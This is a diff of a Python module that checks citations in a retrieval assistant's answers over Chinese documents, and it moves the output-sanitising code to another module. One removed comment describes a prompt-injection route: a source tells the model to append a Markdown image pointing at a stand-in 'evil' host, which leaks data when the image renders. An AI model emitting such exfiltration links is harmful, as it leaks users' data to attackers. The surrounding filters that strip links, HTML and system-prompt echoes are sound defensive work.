@@ -1,5 +1,6 @@
-"""Citation checks shared by every answer path: valid markers, exact quotes, numbers backed by sources;
-and the clean-up of model output before those checks (no remote images, links, HTML or echoed prompt)."""
+"""Citation checks shared by every answer path: valid markers, exact quotes, numbers backed by sources.
+
+Model output is cleaned before these checks run (assistant.generation.sanitize)."""
 
 from __future__ import annotations
 
@@ -8,7 +9,7 @@ import unicodedata
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field
 
-from assistant.ingest.chunking import sentence_spans
+from assistant.text import CLOSERS, SENTENCE_ENDS, sentence_spans
 from assistant.types import Citation, Passage
 
 MARKER = re.compile(r"\[(\d{1,3})\]")
@@ -17,34 +18,12 @@ MARKER = re.compile(r"\[(\d{1,3})\]")
 # (１，２００) is it a thousands separator. List commas become 、 before NFKC could make them ','.
 _LIST_COMMA = re.compile(r"(?<![０-９])，|，(?![０-９])")
 _NUMBER = re.compile(r"\d{1,3}(?:,\d{3})+(?![\d,])|\d+(?:\.\d+)?")
-_TERMINATORS = "。！？；!?;\n"
-_CLOSERS = "”’」』）)"
+_TERMINATORS = SENTENCE_ENDS + "\n"  # an answer line ends its sentence too (sentence_spans splits there)
 # An anonymised figure: XX万元, XX次, xx人 … (XX乡 / XX山礼 are anonymised names, not figures).
 PLACEHOLDER_FIGURE = re.compile(
     r"[XxＸｘ]{2,}(?=\s*(?:余|多)?(?:万|亿|千|百|个|次|人|户|名|期|条|篇|场|元|亩|吨|%|％|件|起|项|家|位|只|头|公里|米|平方|天|所|座|处|村|支|批|套|辆|份|册|本|倍|年))"
 )
 UNDISCLOSED = "原文未披露具体数字"
-
-# Active content in model output. A document can tell the model to append ![](http://evil/?d=…) (an image
-# any Markdown renderer fetches at once, leaking what the URL carries) or links and HTML: none of it may
-# reach the user, whatever renders the answer (the app escapes it, API and CLI consumers may not).
-LINKS_REMOVED_NOTE = "已移除回答中的外部图片/链接。"
-PROMPT_ECHO_NOTE = "已移除回答中复述的系统提示词内容。"
-URL = re.compile(
-    r"(?<![A-Za-z0-9+.-])(?:(?:https?|ftp|file|javascript|vbscript|data|mailto|blob):|www\.)"
-    r"[^\s<>\"'`）)\[\]【】《》，。；！？、]*",
-    re.IGNORECASE,
-)
-_DANGEROUS_ELEMENT = re.compile(
-    r"<(script|style|iframe|object|embed|svg|math|template|noscript|textarea)\b.*?(?:</\1\s*>|\Z)",
-    re.IGNORECASE | re.DOTALL,
-)
-_HTML_COMMENT = re.compile(r"<!--.*?(?:-->|\Z)", re.DOTALL)
-_MD_IMAGE = re.compile(r"!\[[^\]\n]*\]\s*(?:\([^)\n]*\)?|\[[^\]\n]*\])")
-_MD_LINK = re.compile(r"\[([^\]\n]+)\]\(\s*<?(?:[A-Za-z][A-Za-z0-9+.-]*:|/|#|www\.)[^)\n]*\)")
-_MD_LINK_DEF = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*\S+.*$", re.MULTILINE)
-_HTML_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9:-]*(?:\s[^<>]*)?/?>|<[A-Za-z][A-Za-z0-9:-]*\s[^<>]*\Z")
-_ECHO_RUN = 12  # characters in a row shared with the system prompt that make a sentence an echo of it
 
 
 def placeholder_figures(text: str) -> list[str]:
@@ -70,7 +49,7 @@ def split_answer_sentences(answer: str) -> list[str]:
     while i < len(answer):
         if answer[i] in _TERMINATORS:
             i += 1
-            while i < len(answer) and (answer[i] in _CLOSERS or MARKER.match(answer, i)):
+            while i < len(answer) and (answer[i] in CLOSERS or MARKER.match(answer, i)):
                 m = MARKER.match(answer, i)
                 i = m.end() if m else i + 1
             out.append(answer[start:i])
@@ -84,8 +63,13 @@ def split_answer_sentences(answer: str) -> list[str]:
     return out
 
 
+def unmarked(text: str) -> str:
+    """Text as compared with sources and prompts: NFKC, without [n] markers and whitespace."""
+    return re.sub(r"\s+", "", MARKER.sub("", unicodedata.normalize("NFKC", text)))
+
+
 def _bigrams(text: str) -> set[str]:
-    plain = re.sub(r"\s+", "", MARKER.sub("", unicodedata.normalize("NFKC", text)))
+    plain = unmarked(text)
     return {plain[i : i + 2] for i in range(len(plain) - 1)}
 
 
@@ -172,72 +156,3 @@ def _citation(n: int, passage: Passage, sentence: str) -> Citation:
         title=str(passage.metadata.get("title", "")),
         township=str(passage.metadata.get("township", "")),
     )
-
-
-def _link_text(m: re.Match[str]) -> str:
-    text = m.group(1)
-    return f"[{text}]" if text.isdigit() else text  # [1](http://…): keep the citation marker
-
-
-def strip_active_markup(text: str) -> tuple[str, int]:
-    """Model text without remote images, links, URLs or HTML; returns (text, number of pieces removed).
-
-    Markdown images go with their URL; a Markdown link keeps its text; script-like elements go with
-    their content, other tags leave their text; bare URLs (http, javascript:, data:, www.) are removed.
-    """
-    removed = 0
-
-    def sub(pattern: re.Pattern[str], repl: str | Callable[[re.Match[str]], str], value: str) -> str:
-        nonlocal removed
-        value, n = pattern.subn(repl, value)
-        removed += n
-        return value
-
-    for pattern in (_DANGEROUS_ELEMENT, _HTML_COMMENT, _MD_IMAGE):
-        text = sub(pattern, "", text)
-    text = sub(_MD_LINK, _link_text, text)
-    for pattern in (_MD_LINK_DEF, _HTML_TAG, URL):
-        text = sub(pattern, "", text)
-    if removed:
-        text = re.sub(r"[ \t]{2,}", " ", text)
-        text = re.sub(r"[ \t]+(?=[。！？；，、\n]|\[\d|$)", "", text)
-    return text, removed
-
-
-def _plain(text: str) -> str:
-    return re.sub(r"\s+", "", MARKER.sub("", unicodedata.normalize("NFKC", text)))
-
-
-def drop_prompt_echo(text: str, prompt: str, run: int = _ECHO_RUN) -> tuple[str, int]:
-    """Text without the parts that repeat `prompt` (the system prompt); returns (text, sentences dropped).
-
-    A sentence sharing `run` characters in a row with the prompt shows the model is reciting it; then
-    every sentence found whole in the prompt goes too (规则：, short rule lines). Short shared phrases
-    alone (资料中未找到, 原文未披露具体数字) are not an echo.
-    """
-    reference = _plain(prompt)
-    sentences = split_answer_sentences(text)
-    plains = [_plain(sentence) for sentence in sentences]
-    recited = [any(p[i : i + run] in reference for i in range(len(p) - run + 1)) for p in plains]
-    if not reference or not any(recited):
-        return text, 0
-    kept, dropped = [], 0
-    for sentence, plain, echo in zip(sentences, plains, recited, strict=True):
-        if echo or (plain and plain in reference):
-            dropped += 1
-        else:
-            kept.append(sentence)
-    return re.sub(r"\n[ \t]*(?:\n[ \t]*)+", "\n", "".join(kept)).strip(), dropped
-
-
-def clean_model_output(text: str, system_prompt: str = "") -> tuple[str, list[str]]:
-    """What a model wrote, made safe to show before verification: no remote images, links or HTML, no
-    echo of the system prompt. Returns (text, Chinese notes saying what was removed)."""
-    notes = []
-    text, removed = strip_active_markup(text)
-    if removed:
-        notes.append(LINKS_REMOVED_NOTE)
-    text, echoed = drop_prompt_echo(text, system_prompt)
-    if echoed:
-        notes.append(PROMPT_ECHO_NOTE)
-    return text.strip(), notes
